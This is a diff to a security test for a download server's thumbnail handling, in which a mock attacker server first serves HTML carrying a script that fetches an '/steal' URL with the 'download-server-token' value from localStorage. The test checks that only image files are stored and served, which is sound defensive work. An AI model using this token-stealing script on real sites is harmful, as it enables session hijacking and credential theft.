@@ -32,11 +32,11 @@ beforeAll(async () => {
   attacker = createServer((req, res) => {
     if (req.url === "/page.html") {
       return void res.writeHead(200, { "content-type": "text/html" }).end(
-        `<html><head><meta property="og:title" content="Innocent"><meta property="og:image" content="${attackerBase}/thumb">` +
-          `</head><body><video src="${fixture.url("/clip.mp4?xss")}"></video></body></html>`,
+        `<html><head><meta property="og:title" content="Innocent"><meta property="og:image" content="${attackerBase}/thumb.html">` +
+          `</head><body><video src="${fixture.url("/clip.mp4?xss")}" poster="${attackerBase}/thumb.html"></video></body></html>`,
       );
     }
-    if (req.url === "/thumb") {
+    if (req.url === "/thumb.html") {
       if (thumbnailFetches++ > 0) return void res.writeHead(200, { "content-type": "image/png" }).end(png);
       const script = `<script>fetch("${attackerBase}/steal?" + encodeURIComponent(localStorage["download-server-token"] || "ran"))</script>`;
       return void res.writeHead(200, { "content-type": "text/html" }).end(`<html><body>${script}</body></html>`);
@@ -86,12 +86,15 @@ describe("a thumbnail that is HTML the first time", () => {
       done = await ended(id);
     }
     expect(done.status).toBe("COMPLETED");
+    expect(thumbnailFetches).toBe(2); // the HTML, then the image
     expect((await readdir(thumbnails)).every((name) => /\.(jpg|png|webp)$/.test(name))).toBe(true);
 
     const res = await fetch(`${server.base}/api/thumbnails/${id}`, { headers: AUTH });
     if (res.status === 200) {
-      expect(res.headers.get("content-type")).toBe("image/png");
-      expect(Buffer.from(await res.arrayBuffer()).subarray(1, 4).toString()).toBe("PNG");
+      const bytes = Buffer.from(await res.arrayBuffer());
+      const type = res.headers.get("content-type");
+      expect(["image/png", "image/jpeg"]).toContain(type);
+      expect(type === "image/png" ? bytes.subarray(1, 4).toString() === "PNG" : bytes[0] === 0xff && bytes[1] === 0xd8).toBe(true);
     } else {
       expect(res.status).toBe(404);
     }
